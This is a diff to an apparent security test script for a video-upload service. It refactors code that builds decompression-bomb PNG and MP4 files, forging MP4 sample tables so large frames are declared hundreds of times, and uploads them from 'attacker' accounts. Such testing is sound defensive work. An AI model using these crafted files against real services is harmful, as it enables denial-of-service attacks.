@@ -33,6 +33,9 @@ MARKER_SECONDS = 5.0
 MEMORY_BYTES = 400_000_000
 STOP_SECONDS = 10.0
 
+# Of the video that says each of its frames many times.
+FRAMES = 600
+
 
 class Service:
     def __init__(self, folder: str):
@@ -135,12 +138,12 @@ def png_bomb() -> bytes:
 
 
 def video_bomb(folder: str, repeats: int = 300) -> bytes:
-    """600 frames of 4096 x 2304 whose sample tables say them `repeats` times, in a sample entry of 1 x 1."""
+    """Frames of 4096 x 2304 whose sample tables say them `repeats` times, in a sample entry of 1 x 1."""
     plain = Path(folder) / "plain.mp4"
     source = "color=black:s=4096x2304:r=30"
     subprocess.run(
-        ["ffmpeg", "-v", "error", "-f", "lavfi", "-i", source, "-frames:v", "600", "-c:v", "libx264", "-preset", "ultrafast",
-         "-pix_fmt", "yuv420p", "-g", "600", "-bf", "0", "-movflags", "+faststart", str(plain)],
+        ["ffmpeg", "-v", "error", "-f", "lavfi", "-i", source, "-frames:v", str(FRAMES), "-c:v", "libx264", "-preset", "ultrafast",
+         "-pix_fmt", "yuv420p", "-g", str(FRAMES), "-bf", "0", "-movflags", "+faststart", str(plain)],
         check=True,
     )
     file = plain.read_bytes()
@@ -176,9 +179,8 @@ def repeated(parent: bytes, repeats: int, first: int) -> bytes:
         elif kind == b"stsz":
             count = struct.unpack_from(">I", content, 8)[0]
             content = struct.pack(">III", 0, 0, count * repeats) + content[12:] * repeats
-            repeated.frames = count
         elif kind == b"stsc":
-            content = struct.pack(">IIIII", 0, 1, 1, repeated.frames, 1)
+            content = struct.pack(">IIIII", 0, 1, 1, FRAMES, 1)
         elif kind in (b"stco", b"co64"):
             kind, content = b"stco", struct.pack(">II", 0, repeats) + struct.pack(">I", first) * repeats
         elif kind == b"stsd":
@@ -319,7 +321,7 @@ def prepare(service: Service, attackers: int):
     status, video = attacker.upload(f"/api/ar-content/{contents[0]['id']}/videos", "video", "a.mp4", CLIP * 1)
     assert status == 201, video
     status, playing = attacker.ask("GET", f"/api/ar/{contents[0]['unique_id']}/active-video")
-    link = re.sub(r"^https?://[^/]+", "", playing["video_url"])
+    link = re.sub(r"^https?://[^/]+", "", playing["video"]["url"])
     return people["victim"], attacker.token, [content["id"] for content in contents], link
 
 
